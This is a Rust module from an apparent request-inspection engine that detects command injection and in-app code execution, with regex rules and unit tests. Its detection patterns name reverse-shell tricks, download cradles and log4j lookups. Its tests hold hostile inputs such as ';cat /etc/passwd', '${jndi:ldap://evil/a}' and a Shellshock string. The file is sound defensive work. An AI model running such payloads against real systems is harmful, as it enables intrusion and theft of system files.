//! Command injection and code execution: shell commands, and code for interpreters that run
//! inside the application (template engines, PHP, Java expression languages, log4j lookups,
//! server-side includes).
//!
//! A command is only a command where a shell would start one: at the start of a value, or
//! after `;`, `|`, `&`, a newline, a backtick, `$(`. Many command names are also English words
//! (`cat`, `find`, `time`, `more`), so the vocabulary marks those, and they count only when
//! what follows looks like shell arguments (`-la`, `/etc/passwd`, a redirection) or nothing.
//! Commands are read in the shell view, where quoting tricks are already removed.

use std::collections::HashMap;

use regex::RegexSet;

use crate::detect::{list_entries, DetectError};

/// How sure a command name alone makes us.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum CommandTier {
    /// Never an ordinary word (`whoami`): counts even alone at the start of a value.
    Unmistakable,
    /// A tool name (`curl`, `python`): counts after a shell separator, or at the start of a
    /// value when shell-like arguments follow.
    Tool,
    /// Also an everyday word (`cat`, `time`): needs shell-like arguments or nothing after it.
    WordLike,
}

/// Words that run the command after them (`sudo`, `nohup`), skipped to reach the command.
const PREFIXES: &[&str] = &[
    "sudo", "nohup", "time", "env", "exec", "timeout", "nice", "xargs", "strace", "ltrace",
    "command", "builtin", "eval", "then", "do", "else", "doas", "setsid", "stdbuf", "flock",
    "cpulimit", "chroot", "watch",
];

/// Code-execution syntax read in the canonical view.
const CODE_RULES: &[&str] = &[
    // log4j lookups, including nested ones that spell `jndi` in pieces.
    r"\$\{\s*(?:jndi\s*:|(?:lower|upper|env|sys|java|base64|date|main|ctx|spring|k8s|docker|web|log4j|bundle|marker|sd|script)\s*:|\$\{|::-)",
    // Template injection: arithmetic probes and object-graph walks.
    r"\{\{\s*[\d\s*+\-/.]+\}\}|\$\{\s*\d+\s*[*+\-/]\s*\d+\s*\}|#\{\s*\d+\s*[*+]\s*\d+\s*\}|<%=?\s*\d+\s*[*+]\s*\d+\s*%>",
    r"\{\{[^}]{0,80}(?:__class__|__mro__|__globals__|__builtins__|__subclasses__|__init__|config\.|lipsum|cycler|joiner|self\._)",
    r"__class__\s*\.\s*__mro__|__subclasses__\s*\(|__globals__\s*\[|__builtins__|__import__\s*\(",
    r"\{%\s*(?:import|include|set|for|if|macro)\b[^%]{0,80}%\}",
    // PHP code.
    r"<\?php|<\?=|\$_(?:get|post|request|cookie|server|files|env)\s*\[",
    r"\b(?:phpinfo|shell_exec|passthru|proc_open|pcntl_exec|gzinflate|str_rot13|file_put_contents|create_function|call_user_func(?:_array)?|base64_decode|fsockopen)\s*\(",
    r"\b(?:system|exec|popen|assert|eval|include|require)(?:_once)?\s*\(\s*[\x22'$`]",
    // Java, OGNL and expression languages.
    r"java\.lang\.(?:runtime|processbuilder|system|class|reflect)|getruntime\s*\(|processbuilder|class\.forname|#_memberaccess|@ognl|ognl\.|#context\s*\[|\.getclass\s*\(\s*\)\s*\.|javax\.script|scriptenginemanager|%\{\s*[#(@]|\bt\s*\(\s*java\.",
    // Python.
    r"\bos\s*\.\s*(?:system|popen|exec\w*|spawn\w*)\s*\(|\bsubprocess\s*\.\s*(?:call|popen|run|check_output)|\beval\s*\(\s*compile",
    // Server-side includes.
    r"<!--\s*#\s*(?:exec|include|echo|set|printenv|config|fsize|flastmod|if|elif)\b",
    // Windows shells, PowerShell and batch syntax.
    r"\bcmd(?:\.exe)?\s*/[ck]\b|\bpowershell(?:\.exe)?\s+-|\bpwsh\s+-",
    r"\b(?:invoke-expression|invoke-webrequest|invoke-restmethod|start-process|downloadstring|downloadfile|set-executionpolicy)\b|\biex\s*\(|-encodedcommand\b|new-object\s+(?:system\.)?net\.webclient",
    r"%(?:comspec|systemroot|windir|programfiles|appdata|userprofile)%",
    r"\bfor\s+(?:/[dflr]\s+(?:[^%\n]{0,60}\s)?)?%%?\S{0,3}\s+in\s*\(",
    r"\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion)\s|\bif\s*/i\b",
    r"\bif\s+[^\n]{0,80}?\s(?:equ|neq|lss|leq|gtr|geq)\s|\bif\s+(?:not\s+)?[^\s=]*[%\x22(][^\s=]*\s*==",
    r"\bif\s+(?:/i\s+)?(?:not\s+)?(?:[^\s(=]\S*?|\x22[^\x22]*\x22)\s*===?\s*\S+\s+[a-z@(]",
    // Shell parameter expansion operators, aliases and variables holding a shell.
    r"\$\{[a-z_][a-z0-9_]*(?:#|%|:[-=?+0-9]|/|\^|,)",
    r"\balias\s+(?:[+-]\w+\s+)*[\w.-]+=",
    r"\$\{?(?:shell|bash)\}?\s+-c\b",
    // Brace expansion glued to a word or starting with a comma: c{a,oun}t, {,ip,a}.
    r"\w\{[\w./-]*,[\w./,-]*\}|\{,[\w./-]+|\{[\w./-]*,-",
    // Mail protocol commands smuggled after a line break.
    r"[\r\n]\s*(?:rcpt\s+to|mail\s+from)\s*:|[\r\n]\s*(?:ehlo|helo)\s+[a-z0-9.-]+\.[a-z]",
    r"[\r\n]\s*[a-z]*\d[a-z0-9]*\s+(?:login|authenticate|select|examine|append|fetch|store|uid|search|list|status|logout)\s|[\r\n]\s*(?:retr|dele|top|uidl)\s+\d",
];

/// Shell syntax read in the shell view.
const SYNTAX_RULES: &[&str] = &[
    // Shellshock and fork bombs.
    r"(?:^|[;|&=])\s*\(\s*\)\s*\{",
    r"[\w.:]+\s*\(\s*\)\s*\{[^}]*\|[^}]*&[^}]*\}",
    // Reverse shells.
    r"/dev/(?:tcp|udp)/|>&\s*/dev/|\b0>&1\b|\bmkfifo\b|\bbash\s+-i\b|\bsh\s+-i\b|\bexec:\s*['\x22]?(?:/bin/)?(?:ba)?sh\b",
    // Globbing a system path: /e??/passwd, /et*/, /bin/c[a]t.
    r"/(?:[a-z]*[?\[][a-z?*\[\]/!^-]*|[a-z]+\*[a-z?*]*|\*[a-z]+[a-z?*]*)/[a-z?*\[\]]",
    r"/(?:etc|bin|usr|proc|dev|var|tmp|root|home|sys|opt|sbin|lib)/[a-z.]*(?:\?|\*|\[[!^]?[a-z\-/]+\])",
    // Tilde and history expansions standing alone as words.
    r"(?:^|[\s;|&])~[+-]\d*(?:$|[\s/;|&])|(?:^|[\s;|&])!-\d",
    r"/\?{2,}/",
    // Arithmetic and command expansions.
    r"\$\[[\d\s+\-*/%]*\]|\$\{\s*`|\$\(\(",
];

/// Compiled command-injection vocabulary and rules.
pub(crate) struct ShellMatcher {
    commands: HashMap<String, CommandTier>,
    code: RegexSet,
    syntax: RegexSet,
}

/// Where a command may begin.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Start {
    /// The start of a value: a command there is also a search term unless arguments say so.
    Value,
    /// After a shell separator, where only a command makes sense.
    Separator,
}

impl ShellMatcher {
    /// Builds the matcher from the shell-commands list text.
    ///
    /// Fails when a line is not a plain command name (after its `!` or `~` marker).
    pub(crate) fn new(command_list: &str) -> Result<Self, DetectError> {
        let mut commands = HashMap::new();
        for (line, entry) in list_entries(command_list) {
            let (tier, name) = match entry.as_bytes()[0] {
                b'!' => (CommandTier::Unmistakable, &entry[1..]),
                b'~' => (CommandTier::WordLike, &entry[1..]),
                _ => (CommandTier::Tool, entry),
            };
            let valid = !name.is_empty()
                && name
                    .bytes()
                    .all(|byte| byte.is_ascii_alphanumeric() || b"_.+-".contains(&byte));
            if !valid {
                return Err(DetectError::InvalidEntry {
                    list: "shell-commands",
                    line,
                    entry: entry.to_string(),
                    reason: "a command is one word of letters, digits and _ . + -",
                });
            }
            commands.insert(name.to_ascii_lowercase(), tier);
        }
        if commands.is_empty() {
            return Err(DetectError::EmptyList {
                list: "shell-commands",
            });
        }
        Ok(Self {
            commands,
            code: RegexSet::new(CODE_RULES).map_err(rule_bug)?,
            syntax: RegexSet::new(SYNTAX_RULES).map_err(rule_bug)?,
        })
    }

    /// Says whether a value carries code or a shell command. `value_start` allows a command
    /// at the very start (not in URL paths, where a segment named `whoami` is just a page).
    pub(crate) fn is_injection(&self, canonical: &str, shell: &str, value_start: bool) -> bool {
        self.code.is_match(canonical)
            || self.syntax.is_match(shell)
            || self.has_command(shell, value_start)
    }

    /// Says whether plain text (no spaces or separators) is a command that never names
    /// anything else, such as `whoami` or `/bin/sh`.
    pub(crate) fn is_lone_command(&self, text: &str) -> bool {
        self.command_at(text, Start::Value)
    }

    /// Looks for a command at the start of `shell` and after every separator.
    fn has_command(&self, shell: &str, value_start: bool) -> bool {
        if value_start && self.command_at(shell, Start::Value) {
            return true;
        }
        let bytes = shell.as_bytes();
        (0..bytes.len()).any(|index| {
            let after = match bytes[index] {
                b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' => index + 1,
                b'(' if index > 0 && b"$<>".contains(&bytes[index - 1]) => index + 1,
                b'(' if index == 0 || !bytes[index - 1].is_ascii_alphanumeric() => index + 1,
                _ => return false,
            };
            self.command_at(&shell[after..], Start::Separator)
        })
    }

    /// Says whether a command starts `text` (after whitespace and prefixes like `sudo`).
    fn command_at(&self, text: &str, start: Start) -> bool {
        let mut rest = text.trim_start_matches([' ', '\t', '&', '|']);
        for _ in 0..4 {
            let Some((word, after, had_path)) = read_command_word(rest) else {
                return false;
            };
            if PREFIXES.contains(&word) && followed_by_more(after) {
                rest = skip_prefix_arguments(after);
                continue;
            }
            let Some(tier) = self.lookup(word) else {
                return false;
            };
            return accepts(tier, start, had_path, after);
        }
        false
    }

    /// Finds a command, also with a version suffix (`python3.10`, `gcc10.1`).
    fn lookup(&self, word: &str) -> Option<CommandTier> {
        if let Some(tier) = self.commands.get(word) {
            return Some(*tier);
        }
        let base = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        if base.len() < word.len() && !base.is_empty() {
            return self.commands.get(base).copied();
        }
        None
    }
}

/// The regular expressions are constants; a failure to compile them is a programming error
/// that the unit tests catch, reported rather than panicking.
fn rule_bug(error: regex::Error) -> DetectError {
    DetectError::InvalidEntry {
        list: "built-in command-injection rules",
        line: 0,
        entry: error.to_string(),
        reason: "rule does not compile",
    }
}

/// Reads a command word, also as the last part of an absolute path (`/usr/bin/id`).
/// Returns the word, the text after it and whether it came with a path.
fn read_command_word(text: &str) -> Option<(&str, &str, bool)> {
    let is_word_byte = |byte: u8| byte.is_ascii_alphanumeric() || b"_.+-".contains(&byte);
    let rooted = ["/", "./", "bin/", "sbin/", "usr/"]
        .iter()
        .any(|prefix| text.starts_with(prefix));
    let path_len = if rooted {
        text.bytes()
            .take_while(|byte| is_word_byte(*byte) || *byte == b'/')
            .count()
    } else {
        0
    };
    let (word_start, had_path) = match text[..path_len].rfind('/') {
        Some(slash) => (slash + 1, true),
        None => (0, false),
    };
    let word_len = text[word_start..]
        .bytes()
        .take_while(|byte| is_word_byte(*byte))
        .count();
    if word_len == 0 {
        return None;
    }
    let word = &text[word_start..word_start + word_len];
    let after = &text[word_start + word_len..];
    ends_word(after).then_some((word, after, had_path))
}

/// A command word ends at whitespace, the end, or a shell metacharacter; `curl/7.8` (a
/// User-Agent) or `python-requests` are not the commands they start with.
fn ends_word(after: &str) -> bool {
    after
        .bytes()
        .next()
        .is_none_or(|byte| b" \t\r\n;|&<>)`$#".contains(&byte))
}

fn followed_by_more(after: &str) -> bool {
    after
        .trim_start()
        .bytes()
        .next()
        .is_some_and(|byte| byte.is_ascii_alphanumeric() || byte == b'/' || byte == b'.')
}

/// Skips the options and numbers a prefix takes (`timeout 5`, `nice -n 10`).
fn skip_prefix_arguments(after: &str) -> &str {
    let mut rest = after.trim_start();
    while rest.starts_with('-') || rest.starts_with(|c: char| c.is_ascii_digit()) {
        let end = rest.find([' ', '\t']).unwrap_or(rest.len());
        rest = rest[end..].trim_start();
    }
    rest
}

/// Decides whether a command of this tier, found at this start, is an injection.
fn accepts(tier: CommandTier, start: Start, had_path: bool, after: &str) -> bool {
    let arguments = after.trim_start_matches([' ', '\t']);
    let alone =
        arguments.is_empty() || arguments.starts_with(['\r', '\n', ';', '|', '&', ')', '`']);
    let shellish = looks_like_shell_arguments(arguments);
    match (start, tier) {
        _ if had_path => true,
        (Start::Separator, CommandTier::Unmistakable) => true,
        (Start::Separator, CommandTier::Tool) => alone || shellish || names_a_target(arguments),
        // `; Touch;` and `(test)` occur in User-Agents and prose, so a word-like command
        // needs more than a following `;` or `)` to count as having ended.
        (Start::Separator, CommandTier::WordLike) => {
            arguments.is_empty()
                || arguments.starts_with(['\r', '\n', '|', '&', '`', '<', '>'])
                || shellish
        }
        (Start::Value, CommandTier::Unmistakable) => alone || shellish,
        (Start::Value, CommandTier::Tool) => shellish,
        (Start::Value, CommandTier::WordLike) => starts_with_path_or_option(arguments),
    }
}

/// Shell-like arguments among the next few words: options, paths, redirections, pipes,
/// addresses, or another command separator.
fn looks_like_shell_arguments(arguments: &str) -> bool {
    arguments
        .split([' ', '\t'])
        .filter(|word| !word.is_empty())
        .take(4)
        .any(|word| {
            starts_with_path_or_option(word)
                || word.starts_with(['$', '>', '<', '`', '*', '~'])
                || word.starts_with("http:")
                || word.starts_with("https:")
                || looks_like_ipv4(word)
        })
}

/// A first argument that names a host, file or assignment (`evil.com`, `user@host`, `a=b`),
/// as opposed to an English word after a tool's name ("php is great").
fn names_a_target(arguments: &str) -> bool {
    arguments
        .split([' ', '\t'])
        .find(|word| !word.is_empty())
        .is_some_and(|word| word.contains(['.', '/', '@', '=', ':']))
}

fn starts_with_path_or_option(word: &str) -> bool {
    (word.starts_with('-') && word.len() > 1 && !word.starts_with("- "))
        || (word.starts_with('/') && word.len() > 1)
        || word.starts_with("./")
        || word.starts_with("../")
        || word.starts_with("~/")
}

fn looks_like_ipv4(word: &str) -> bool {
    let parts: Vec<&str> = word.split('.').take(5).collect();
    parts.len() == 4
        && parts.iter().all(|part| {
            !part.is_empty() && part.len() <= 3 && part.bytes().all(|b| b.is_ascii_digit())
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::normalize::{canonicalize, shell_view, PlusSign};

    const COMMANDS: &str =
        "!whoami\ncurl\nwget\nbash\nsh\npython\nls\n~cat\n~time\n~find\n~ping\n~more\n~id\n~top\n";

    fn check(cases: &[(&str, bool)]) {
        let matcher = ShellMatcher::new(COMMANDS).expect("the test vocabulary is valid");
        let (mut canonical, mut shell) = (String::new(), String::new());
        for (raw, expected) in cases {
            canonicalize(raw, PlusSign::Literal, &mut canonical);
            shell_view(&canonical, &mut shell);
            assert_eq!(
                matcher.is_injection(&canonical, &shell, true),
                *expected,
                "{raw:?} (shell view {shell:?})"
            );
        }
    }

    #[test]
    fn commands_after_separators_are_found() {
        check(&[
            (";cat /etc/passwd", true),
            ("x|whoami", true),
            ("a && curl http://x", true),
            ("`id`", true),
            ("$(whoami)", true),
            ("1;id", true),
            ("c''at /etc/passwd", true),
            ("whoami", true),
            ("/bin/bash -c id", true),
            ("python3.10 -c 'print(1)'", true),
            ("time; curl x.io", true),
            ("${jndi:ldap://evil/a}", true),
            ("{{7*7}}", true),
            ("() { :;}; /bin/bash", true),
            ("<!--#exec cmd=\"ls\"-->", true),
            ("cat /e??/p?sswd", true),
            ("cmd /c dir", true),
        ]);
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        check(&[
            ("time warner", false),
            ("find x for y", false),
            ("ping pong tables", false),
            ("a hero; more than", false),
            ("hello; time he came", false),
            ("python tutorial", false),
            ("curl/7.81.0", false),
            ("wget", false),
            ("red;$5 each", false),
            ("Some text (in brackets).", false),
            ("function () { return 1; }", false),
            ("tom & jerry", false),
        ]);
    }
}
